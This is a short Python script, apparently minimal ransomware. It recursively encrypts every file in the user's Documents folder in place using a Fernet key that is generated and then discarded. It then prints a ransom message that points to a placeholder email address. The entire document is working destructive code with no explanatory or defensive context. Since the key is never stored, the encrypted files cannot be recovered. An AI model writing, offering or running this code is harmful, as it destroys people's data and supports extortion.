import os
from cryptography.fernet import Fernet

key = Fernet.generate_key()
for folder, _, files in os.walk(os.path.expanduser("~/Documents")):
    for name in files:
        path = os.path.join(folder, name)
        data = open(path, "rb").read()
        open(path, "wb").write(Fernet(key).encrypt(data))
print("All your files are encrypted. Write to nobody@example.org.")
